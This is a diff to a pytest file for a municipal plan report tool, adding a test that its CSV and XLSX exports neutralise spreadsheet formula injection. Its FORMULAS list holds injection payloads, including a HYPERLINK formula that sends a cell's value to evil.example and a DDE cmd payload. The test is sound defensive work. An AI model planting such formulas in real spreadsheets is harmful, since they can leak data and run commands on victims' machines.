@@ -4,6 +4,7 @@ import re
 import shutil
 import subprocess
 from collections import Counter
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
@@ -297,3 +298,67 @@ def test_markdown_escapes_every_text_from_the_plan_and_staff(sapporo, tmp_path):
     shown = " ".join(_shown(text).split())
     for payload in PAYLOADS:  # and every text reads as it was written
         assert " ".join(payload.split()) in shown, payload
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1")
+
+
+def _with_formulas(plan):
+    """Text that a spreadsheet would run, in every text the report's CSV and XLSX carry, and a negative figure."""
+    from dataclasses import replace
+    from itertools import cycle
+
+    it = cycle(FORMULAS)
+    first = plan.indicators[0]
+    observations = (replace(first.observations[0], value=Decimal("-3.5")), *first.observations[1:])
+    indicators = tuple(
+        replace(
+            ind,
+            name=next(it),
+            category=next(it),
+            unit=ind.unit,
+            observations=tuple(
+                replace(
+                    o,
+                    note=next(it),
+                    source_text=next(it),
+                    breakdown=tuple((next(it), v) for _, v in o.breakdown),
+                )
+                for o in (observations if ind is first else ind.observations)
+            ),
+            targets=tuple(replace(t, source_text=next(it)) for t in ind.targets),
+        )
+        for ind in plan.indicators
+    )
+    goals = tuple(replace(g, name=next(it), statement=next(it), footnotes=(next(it),)) for g in plan.goals)
+    return replace(plan, title=next(it), municipality=replace(plan.municipality, name=next(it)),
+                   goals=goals, indicators=indicators)  # fmt: skip
+
+
+def test_csv_and_xlsx_never_carry_a_formula(sapporo, tmp_path):
+    import csv
+
+    write_report(build_report(_with_formulas(sapporo)), tmp_path, ["csv", "xlsx"])
+    for name in ("observations.csv", "targets.csv", "evaluations.csv"):
+        rows = list(csv.reader((tmp_path / name).read_text(encoding="utf-8-sig").splitlines(keepends=True)))
+        cells = [c for row in rows for c in row]
+        assert not [
+            c
+            for c in cells
+            if c[:1] in ("=", "+", "@", "\t") or (c[:1] == "-" and c[1:2] not in "0123456789")
+        ], name
+        assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[2] in cells, name
+    observations = list(
+        csv.reader((tmp_path / "observations.csv").read_text(encoding="utf-8-sig").splitlines())
+    )
+    assert observations[1][observations[0].index("値")] == "-3.5"  # a number is data, not a formula
+    book = load_workbook(tmp_path / "report.xlsx")
+    texts = set()
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.add(cell.value)
+    assert set(FORMULAS) <= texts  # in a workbook, text stays exactly the text, as a string
+    assert book["データ"]["M2"].value == -3.5
